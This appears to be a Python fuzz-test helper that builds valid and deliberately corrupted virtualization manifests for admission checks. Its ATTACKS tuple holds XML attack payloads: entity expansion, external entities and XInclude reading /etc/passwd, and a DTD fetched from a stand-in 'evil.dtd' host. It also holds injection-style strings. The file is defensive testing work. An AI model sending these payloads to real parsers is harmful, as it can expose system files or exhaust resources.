"""Manifests, and what can be wrong with one: for the fuzz tests of admission, without and with a store."""

import copy
from collections.abc import Iterator
from typing import Any

from hypothesis import strategies as st

from tests.builders import DOMAIN_XML

GROUP_VERSION = "virtualization.deckhouse.io/v1alpha2"
REQUIRED = "requiredDuringSchedulingIgnoredDuringExecution"
PREFERRED = "preferredDuringSchedulingIgnoredDuringExecution"
Path = tuple[str | int, ...]

FREE_FORM = {"labels", "annotations", "nodeSelector", "matchLabels"}
"""Mappings whose keys are people's own. A class's nodeSelector is none, but holds only such ones."""


def manifest(kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
    meta = {"name": name, "labels": {"app": "db"}, "annotations": {"example.com/note": "kept"}}
    return {"apiVersion": GROUP_VERSION, "kind": kind, "metadata": meta, "spec": spec}


_TERM = {
    "topologyKey": "zone",
    "labelSelector": {
        "matchLabels": {"app": "db"},
        "matchExpressions": [{"key": "tier", "operator": "NotIn", "values": ["test"]}],
    },
    "namespaces": ["default"],
}
STRUCTURED = manifest(
    "VirtualMachine",
    "fuzz",
    {
        "runPolicy": "Manual",
        "cpu": {"cores": 4, "coreFraction": "20%", "sockets": 2},
        "memory": {"size": "2Gi"},
        "disks": [
            {"name": "root", "file": {"path": "/srv/root.qcow2"}, "format": "qcow2", "serial": "A", "bootOrder": 1},
            {
                "name": "far",
                "network": {
                    "protocol": "rbd",
                    "name": "pool/image",
                    "hosts": [{"name": "192.0.2.5", "port": 6789}],
                    "auth": {"username": "u", "secretUuid": "11111111-2222-3333-4444-555555555555"},
                },
            },
        ],
        "interfaces": [{"name": "main", "bridge": "br0", "mac": "52:54:00:12:34:56"}],
        "osType": "Windows",
        "bootloader": "EFI",
        "nodeSelector": {"zone": "a"},
        "affinity": {
            "nodeAffinity": {
                REQUIRED: {
                    "nodeSelectorTerms": [
                        {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["a"]}]},
                    ]
                }
            },
            "virtualMachineAndPodAffinity": {REQUIRED: [_TERM]},
            "virtualMachineAndPodAntiAffinity": {PREFERRED: [{"weight": 5, "virtualMachineAndPodAffinityTerm": _TERM}]},
        },
        "topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "ScheduleAnyway"}],
        "tolerations": [{"key": "a", "operator": "Equal", "value": "b", "effect": "NoSchedule"}],
        "priorityClassName": "high",
        "priority": 7,
        "disruptions": {"restartApprovalMode": "Automatic"},
        "liveMigrationPolicy": "AlwaysSafe",
        "terminationGracePeriodSeconds": 30,
        "ipAddress": "192.0.2.101",
    },
)
TEMPLATE = manifest(
    "VirtualMachine",
    "fuzz",
    {"runPolicy": "Manual", "cpu": {"cores": 1}, "memory": {"size": "1Gi"}, "domainTemplate": DOMAIN_XML},
)
CLASS = manifest(
    "VirtualMachineClass",
    "fuzz",
    {
        "cpu": {"type": "Discovery", "discovery": {"nodeSelector": {"matchLabels": {"zone": "a"}}}},
        "nodeSelector": {"matchExpressions": [{"key": "zone", "operator": "Exists"}]},
        "tolerations": [{"operator": "Exists"}],
    },
)
OPERATION = manifest(
    "VirtualMachineOperation",
    "fuzz",
    {"type": "Migrate", "virtualMachineName": "nobody", "migrate": {"nodeSelector": {"zone": "b"}}},
)
ALL = (STRUCTURED, TEMPLATE, CLASS, OPERATION)

_DEVICE = "<interface type='bridge'><mac address='52:54:00:00:00:01'/><source bridge='br0'/></interface>"
ATTACKS = (
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><domain><name>&b;</name></domain>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><domain><name>&x;</name></domain>',
    '<!DOCTYPE domain SYSTEM "http://192.0.2.1/evil.dtd"><domain/>',
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]><domain/>',
    "<domain>&undeclared;</domain>",
    "<domain><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/etc/passwd' parse='text'/></domain>",
    f"<domain><devices>{_DEVICE * 2}</devices></domain>",
    "<domain><devices>" + "<disk type='file'><target dev='vda' bus='virtio'/></disk>" * 2 + "</devices></domain>",
    "<domain>" + "<a>" * 5000 + "</a>" * 5000 + "</domain>",
    "<domain>" + "<a/>" * 50_000 + "</domain>",
    "<domain>" + "x" * 2**19 + "</domain>",
    "<domain name='\x01'/>",
    "<domain>\x00</domain>",
    "<domain>\ud800</domain>",
    "<domain",
    "",
    "<Domain/>",
    "<domain/><domain/>",
    "<a:domain/>",
)
"""Templates that must not be taken."""

WEIRD: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.sampled_from([0, -1, 2**31, 2**63, 10**30, 10**5000, -(10**5000), 1.5, float("inf"), float("nan"), -0.0]),
    st.text(max_size=30),
    st.sampled_from(
        [
            *("", " ", "\x00", "\n", "a\x1b[31m", "ä", "\u202e", "\ud800", "٣", "a" * 5000, "../..", "/", "${x}", "{}"),
            *("1e9", "0x10", "9" * 5000 + "Gi", "100%\n", "-", "True", "null", "<a>", "'; DROP", "%s%n", "\U0001f600"),
        ]
    ),
    st.lists(st.none() | st.text(max_size=3), max_size=3),
    st.dictionaries(st.text(max_size=5) | st.integers(), st.none() | st.text(max_size=3), max_size=2),
    st.just([[[[[[[]]]]]]]),
)


def places(value: Any, at: Path = ()) -> Iterator[Path]:
    """Every place of a document, itself first."""
    yield at
    if isinstance(value, dict):
        for key, item in value.items():
            yield from places(item, (*at, key))
    elif isinstance(value, list):
        for number, item in enumerate(value):
            yield from places(item, (*at, number))


def value_at(document: Any, place: Path) -> Any:
    for part in place:
        document = document[part]
    return document


def replaced(document: Any, place: Path, value: Any) -> Any:
    """A copy of a document with another value in one place."""
    if not place:
        return value
    whole = copy.deepcopy(document)
    value_at(whole, place[:-1])[place[-1]] = value
    return whole


def written(place: Path) -> str:
    """A place as messages name it."""
    return "".join(f"[{part}]" if isinstance(part, int) else f".{part}" for part in place).lstrip(".")


@st.composite
def spoilt(draw: st.DrawFn) -> Any:
    """A manifest of which one to three places are not as they should be."""
    document: Any = draw(st.sampled_from(ALL))
    for _ in range(draw(st.integers(1, 3))):
        place = draw(st.sampled_from(list(places(document))))
        found = value_at(document, place)
        how = draw(st.sampled_from(["replace", "add", "remove", "double"]))
        if how == "add" and isinstance(found, dict):
            document = replaced(document, (*place, draw(st.text(max_size=8))), draw(WEIRD))
        elif how == "remove" and place and isinstance(place[-1], str):
            whole = copy.deepcopy(document)
            del value_at(whole, place[:-1])[place[-1]]
            document = whole
        elif how == "double" and isinstance(found, list) and found:
            document = replaced(document, place, found * draw(st.sampled_from([2, 100])))
        else:
            document = replaced(document, place, draw(WEIRD))
    return document
